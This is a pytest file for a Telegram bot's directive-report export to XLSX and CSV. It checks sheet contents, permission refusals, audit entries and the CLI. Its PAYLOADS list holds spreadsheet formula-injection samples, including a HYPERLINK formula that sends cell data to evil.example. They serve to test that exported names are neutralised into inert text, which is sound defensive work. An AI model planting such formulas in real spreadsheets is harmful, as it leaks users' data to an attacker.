"""/export and ``chithi export``: the XLSX workbook (summary by unit at each level, every roster
member, the reports) and the CSV of the member sheet, on SQLite and PostgreSQL; formula
payloads inert in both; end to end through the sandbox (private only, refusals)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select, update

from bot.cli import main as cli_main
from bot.i18n import Texts
from bot.services.exports import ExportFiles, export, neutralise
from storage.db import SessionFactory, transaction
from storage.models import AuditEvent, Confirmation, Directive, Member, Unit
from tests.kit.harness import Harness, MakeHarness
from tests.kit.publishing import NUMBER, publish_sample
from tests.kit.reminders import start_private
from tests.kit.scene import build_scene
from tests.kit.tree3 import NOW, province

TZ = ZoneInfo("Asia/Ho_Chi_Minh")
T = Texts("vi").for_lang("vi")
SHEETS = ["Tổng hợp", "Đảng viên", "Chưa báo cáo"]
MEMBER_HEADER = [
    "Văn bản",
    "Mã đơn vị",
    "Đơn vị",
    "Họ và tên",
    "Nhận lúc",
    "Học tập lúc",
    "Hình thức",
    "Điểm kiểm tra",
    "Số lần làm bài",
    "Câu trả lời lần cuối",
]
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")', "+1", "@SUM(A1:A9)", "-2+3"]


def test_neutralise_one_rule_for_every_cell() -> None:
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("+84 912") == "'+84 912"
    assert neutralise("-x") == "'-x" and neutralise("@x") == "'@x"
    assert neutralise("\tx") == "'\tx" and neutralise("\rx") == "'\rx"
    assert neutralise("Nguyễn Văn A") == "Nguyễn Văn A"
    assert neutralise(-3) == -3 and neutralise(None) is None and neutralise(55.5) == 55.5


async def _export_province(sessions: SessionFactory, rename: bool = False) -> ExportFiles:
    async with transaction(sessions) as s:
        made = await province(s)
        if rename:  # four people of C1 give themselves formula names
            ids = (
                await s.scalars(
                    select(Member.id).where(Member.full_name.like("c1 %")).order_by(Member.id)
                )
            ).all()
            for member_id, payload in zip(ids, PAYLOADS, strict=False):
                await s.execute(
                    update(Member).where(Member.id == member_id).values(full_name=payload)
                )
        directive, p = made["directive"], made["p"]
        assert isinstance(directive, Directive) and isinstance(p, Unit)
        return await export(s, [directive], [p], NOW, TZ, T, label=directive.number, actor="t")


def _sheet(files: ExportFiles, title: str) -> list[tuple[Any, ...]]:
    book = load_workbook(io.BytesIO(files.xlsx))
    return [tuple(row) for row in book[title].iter_rows(values_only=True)]


async def test_workbook_sheets_headers_and_rows(sessions: SessionFactory) -> None:
    files = await _export_province(sessions)
    book = load_workbook(io.BytesIO(files.xlsx))
    assert book.sheetnames == SHEETS
    summary = _sheet(files, "Tổng hợp")
    assert summary[0][:9] == (
        "Văn bản",
        "Cấp",
        "Mã đơn vị",
        "Đơn vị",
        "Số đảng viên",
        "Đã nhận",
        "Tỷ lệ đã nhận (%)",
        "Đã học tập",
        "Tỷ lệ đã học tập (%)",
    )
    # Level by level, the untargeted D3 and C5 left out; the roll-up's figures.
    by_code = {row[2]: row for row in summary[1:]}
    assert [row[2] for row in summary[1:]] == ["P", "D1", "D2", "C1", "C2", "C3", "C4"]
    assert by_code["P"][4:] == (20, 15, 75.0, 11, 55.0, 8, 2, 1, 3, 2, 1)
    assert by_code["C1"][1] == 3 and by_code["C1"][4:9] == (10, 8, 80.0, 6, 60.0)
    assert by_code["C3"][4:9] == (0, 0, None, 0, None)  # an empty unit: no share, not 0%
    members = _sheet(files, "Đảng viên")
    assert list(members[0]) == MEMBER_HEADER
    # Every roster entry within the targets: C1 10, C2 4, C4 5, D1's own 2 (one also in C1).
    assert len(members) - 1 == 21 == files.members
    hows = [row[6] for row in members[1:] if row[5]]
    assert sorted(set(hows)) == ["do bí thư ghi nhận", "tại buổi sinh hoạt", "tự xác nhận"]
    assert hows.count("tại buổi sinh hoạt") == 2
    when = NOW.astimezone(TZ).strftime("%d/%m/%Y %H:%M")
    assert all(row[4] in (when, None) for row in members[1:])
    reports = _sheet(files, "Chưa báo cáo")
    assert [(r[1], r[5]) for r in reports[1:]] == [
        ("C2", "chưa nộp"),
        ("C1", "đã nộp"),
        ("C4", "đã nộp"),
    ]
    async with transaction(sessions) as s:
        audited = (await s.scalars(select(AuditEvent).where(AuditEvent.action == "export"))).one()
    assert audited.subject == "1-CV/T" and audited.detail["members"] == 21


async def test_csv_round_trips_vietnamese_and_formulas_come_out_inert(
    sessions: SessionFactory,
) -> None:
    files = await _export_province(sessions, rename=True)
    assert files.csv.startswith("\ufeff".encode())  # Excel reads UTF-8 only with the BOM
    rows = list(csv.reader(io.StringIO(files.csv.decode("utf-8-sig"))))
    assert rows[0] == MEMBER_HEADER
    assert len(rows) - 1 == 21
    names = [r[3] for r in rows[1:]]
    assert "Đơn vị C1" in {r[2] for r in rows[1:]}
    xlsx_names = [r[3] for r in _sheet(files, "Đảng viên")[1:]]
    for payload in PAYLOADS:
        assert "'" + payload in names and payload not in names
        assert "'" + payload in xlsx_names
    book = load_workbook(io.BytesIO(files.xlsx))
    cells = [row[3] for row in book["Đảng viên"].iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in cells)  # text, never a formula
    assert not any(str(c.value).startswith(("=", "+", "-", "@")) for c in cells)


# -- end to end ------------------------------------------------------------------------------


async def _documents(h: Harness, chat_id: int, count: int) -> list[dict[str, Any]]:
    await h.sandbox.wait_for(
        lambda: len([m for m in h.bot_messages(chat_id) if m.get("document")]) >= count
    )
    return [m for m in h.bot_messages(chat_id) if m.get("document")]


def _file(h: Harness, message: dict[str, Any]) -> bytes:
    return bytes(h.sandbox.files[message["document"]["file_id"]].data)


async def test_export_end_to_end(make_harness: MakeHarness, db_url: str) -> None:
    async with make_harness(db_url=db_url) as h:
        scene = await build_scene(h)
        await start_private(h, scene, "admin", "sec_dx", "sec_dx01", "m1")
        directive_id = await publish_sample(h, scene)
        async with h.db() as s:
            m1 = (await s.scalars(select(Member).where(Member.telegram_id == scene.id("m1")))).one()
            s.add(
                Confirmation(
                    directive_id=directive_id,
                    member_id=m1.id,
                    kind="studied",
                    at=datetime(2026, 12, 1, 2, 5, tzinfo=UTC),
                    how="press",
                )
            )

        # Asked in a group: the group gets a pointer, the files go to the private chat.
        group = scene.groups["BP-DX-01"].id
        sec = scene.users["sec_dx"]
        before = len(h.bot_messages(group))
        [pointer] = await h.send(sec, f"/export {NUMBER}", chat_id=group)
        docs = await _documents(h, sec.id, 2)
        assert pointer["text"] == T("names-sent-private")
        assert not any(m.get("document") for m in h.bot_messages(group)[before:])
        xlsx, csv_file = docs[-2:]
        assert xlsx["document"]["file_name"] == "chithi-1208-CV_BTGTU.xlsx"
        assert csv_file["document"]["file_name"] == "chithi-1208-CV_BTGTU.csv"
        book = load_workbook(io.BytesIO(_file(h, xlsx)))
        assert book.sheetnames == SHEETS
        rows = list(book["Đảng viên"].iter_rows(values_only=True))
        # BP-DX's sub-tree: its secretary, BP-DX-01's four, BP-DX-02's two, BP-DX-03's one.
        assert len(rows) - 1 == 8
        [tuan] = [r for r in rows if r[3] == "Phan Minh Tuấn"]
        assert tuan[5] == "01/12/2026 09:05" and tuan[6] == "tự xác nhận"
        assert "BP-BL-01" not in {r[1] for r in rows}
        text = _file(h, csv_file).decode("utf-8-sig")
        assert text.splitlines()[0] == ",".join(MEMBER_HEADER)

        # A secretary of a cell: another unit, or a directive not sent to them, is refused.
        sec01 = scene.users["sec_dx01"]
        [refused] = await h.send(sec01, f"/export {NUMBER} BP-DX-02")
        assert refused["text"] == (
            'Không có đơn vị mã "BP-DX-02" trong các đơn vị đồng chí phụ trách. '
            "Xin kiểm tra lại mã đơn vị."
        )
        [plain] = await h.send(scene.users["m1"], f"/export {NUMBER}")
        assert plain["text"] == "Lệnh /export dành cho bí thư và quản trị viên."
        [unknown] = await h.send(sec01, "/export 9999-XX")
        assert unknown["text"].startswith("Không tìm thấy văn bản số 9999-XX.")
        [empty] = await h.send(sec01, "/export 01/2020")
        assert empty["text"].startswith("Không có văn bản nào ban hành trong tháng 01/2020")

        # A month: every directive published then, the admin's whole tree.
        month = h.rt.now().astimezone(h.settings.locale.tz).strftime("%m/%Y")
        admin = scene.users["admin"]
        await h.send(admin, f"/export {month}", replies=2)
        docs = await _documents(h, admin.id, 2)
        period = load_workbook(io.BytesIO(_file(h, docs[-2])))
        summary = list(period["Tổng hợp"].iter_rows(values_only=True))
        assert {r[0] for r in summary[1:]} == {NUMBER}
        async with h.db() as s:
            audited = (
                await s.execute(
                    select(AuditEvent.actor, AuditEvent.subject)
                    .where(AuditEvent.action == "export")
                    .order_by(AuditEvent.id)
                )
            ).all()
            count = await s.scalar(select(func.count(AuditEvent.id)))
        assert audited == [(str(sec.id), NUMBER), (str(admin.id), month)]
        assert count is not None


def test_cli_export_writes_the_same_files(
    sqlite_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import asyncio

    from storage.db import create_engine, session_factory

    async def fill() -> None:
        engine = create_engine(sqlite_url)
        async with transaction(session_factory(engine)) as s:
            await province(s)
        await engine.dispose()

    asyncio.run(fill())
    config = tmp_path / "config.toml"
    config.write_text(f'[database]\nurl = "{sqlite_url}"\n', encoding="utf-8")
    out = tmp_path / "out"
    assert (
        cli_main(["--config", str(config), "export", "1-CV/T", "--unit", "D1", "--out", str(out)])
        == 0
    )
    book = load_workbook(out / "chithi-1-CV_T.xlsx")
    assert book.sheetnames == SHEETS
    codes = [r[2] for r in list(book["Tổng hợp"].iter_rows(values_only=True))[1:]]
    assert codes == ["D1", "C1", "C2", "C3"]
    rows = list(csv.reader(io.StringIO((out / "chithi-1-CV_T.csv").read_text("utf-8-sig"))))
    assert len(rows) - 1 == 16  # C1 10, C2 4, D1's own 2
    assert cli_main(["--config", str(config), "export", "nope", "--out", str(out)]) == 2


async def test_sandbox_takes_documents_up_to_50_mb(sandbox: Any) -> None:
    from telegram import InputFile
    from telegram.error import NetworkError

    from tests.kit.plain_bot import ptb_bot, started_user

    token = sandbox.create_bot()
    user = started_user(sandbox, token)
    async with ptb_bot(sandbox, token) as bot:
        sent = await bot.send_document(user.id, InputFile(b"x" * 1000, filename="a.xlsx"))
        assert sent.document is not None and sent.document.file_name == "a.xlsx"
        with pytest.raises(NetworkError, match=r"(?i)too large"):
            await bot.send_document(
                user.id, InputFile(b"x" * (50 * 1024 * 1024 + 1), filename="big.xlsx")
            )
